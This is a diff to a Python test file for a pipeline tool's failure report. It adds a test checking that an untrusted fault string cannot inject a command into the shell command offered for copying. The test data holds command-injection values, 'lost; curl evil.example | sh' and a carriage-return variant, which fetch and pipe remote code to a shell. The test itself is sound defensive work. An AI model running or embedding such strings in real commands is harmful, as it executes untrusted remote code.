@@ -162,6 +162,20 @@ def test_every_kind_of_failure_says_what_happened_the_money_and_one_thing_to_do(
     assert str(group["command"]).startswith("pipeline r")
 
 
+@pytest.mark.parametrize(
+    ("fault", "command"),
+    [
+        ("lost; curl evil.example | sh", "pipeline retry mugs --fault 'lost; curl evil.example | sh'"),
+        ("lost\rcurl evil.example", None),
+    ],
+)
+def test_a_strangers_fault_is_no_part_of_a_command(fault: str, command: str | None) -> None:
+    """The page offers the command to be copied into a shell, and a store may come from anybody."""
+    failures = Failures()
+    failures.add(Entry(of_task(task(0), "failed", fault=fault), None))
+    assert [group["command"] for group in failures.told(COMMANDS)] == [command]
+
+
 def test_what_was_charged_is_told_from_the_books() -> None:
     """Not from what is usual for that kind."""
     failures = Failures()
